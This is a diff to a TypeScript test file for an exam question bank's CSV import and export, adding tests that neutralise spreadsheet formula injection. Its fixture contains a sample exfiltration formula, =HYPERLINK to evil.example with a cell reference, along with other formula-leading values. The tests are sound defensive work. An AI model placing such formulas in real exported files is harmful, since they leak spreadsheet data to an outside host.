@@ -3,7 +3,8 @@ import { BANK_IMPORT_MAX_QUESTIONS } from "../validation/bank";
 import type { BankImportResult } from "./import-result";
 import { parseBankJson, placeOf } from "./json";
 import { parseBankImport } from "./parse";
-import { bankCsvFile, bankJsonFile, csvField, type ExportedQuestion } from "./serialize";
+import { bankCsvFile, bankJsonFile, type ExportedQuestion } from "./serialize";
+import { csvField } from "../csv-cell";
 
 const errorsOf = (r: BankImportResult) => r.errors.map((e) => `${e.at}${e.line ? ` (line ${e.line})` : ""}: ${e.message}`);
 const question = (extra: Record<string, unknown> = {}) => ({
@@ -192,5 +193,33 @@ describe("export → import", () => {
     expect(csvField("a, b")).toBe('"a, b"');
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
     expect(csvField("two\nlines")).toBe('"two\nlines"');
+  });
+});
+
+describe("CSV export of cells a spreadsheet would run", () => {
+  const formulaLike: ExportedQuestion = {
+    text: '=HYPERLINK("http://evil.example/steal?q="&A1,"Click for the answer")',
+    options: ["+1+1", "-2", "@SUM(1)", "'=1"],
+    answer: "B",
+    explanation: "-2 because 3 - 5 = -2",
+    topic: null,
+    difficulty: "easy",
+    exams: ["WAEC"],
+    source: "original",
+    stimulus: null,
+    image: null,
+  };
+
+  it("writes each with an apostrophe inside quotes, so no cell starts with a formula character", () => {
+    const file = bankCsvFile([formulaLike]);
+    const row = file.split("\r\n")[1]!;
+    expect(row.startsWith(`"'=HYPERLINK(""http://evil.example/steal?q=""&A1,""Click for the answer"")","'+1+1","'-2","'@SUM(1)","''=1",`)).toBe(true);
+    expect(row).toContain(`"'-2 because 3 - 5 = -2"`);
+  });
+
+  it("imports back exactly, the apostrophes taken off", () => {
+    const r = parseBankImport("csv", bankCsvFile([formulaLike]));
+    expect(r.errors).toEqual([]);
+    expect(strip(r)).toEqual([formulaLike]);
   });
 });
